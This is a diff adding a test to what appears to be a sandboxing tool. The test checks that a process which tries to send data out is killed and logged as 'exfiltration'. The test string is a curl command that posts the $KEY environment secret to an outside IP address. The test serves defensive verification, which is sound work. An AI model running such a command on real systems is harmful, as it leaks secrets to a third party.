@@ -138,6 +138,14 @@ def test_it_is_refused_and_no_more(online):
     online.operator.cloister("kill", online.cell).ok()
 
 
+def test_what_no_rule_allows_kills_too(online):
+    """Wherever it was to go: a policy that kills for it need not allow the way."""
+    leak = "curl -s -d \"$KEY\" http://93.184.216.99/"
+    cell = start(online, "kill", f"{leak}; exec sleep infinity")
+    assert online.operator.cloister("wait", cell).status == 137
+    assert [e["by"] for e in online.events(type="cell", did="killed")] == ["exfiltration"]
+
+
 @only_root
 def test_it_freezes(online):
     start(online, "freeze", f"while :; do {LEAK}; done")
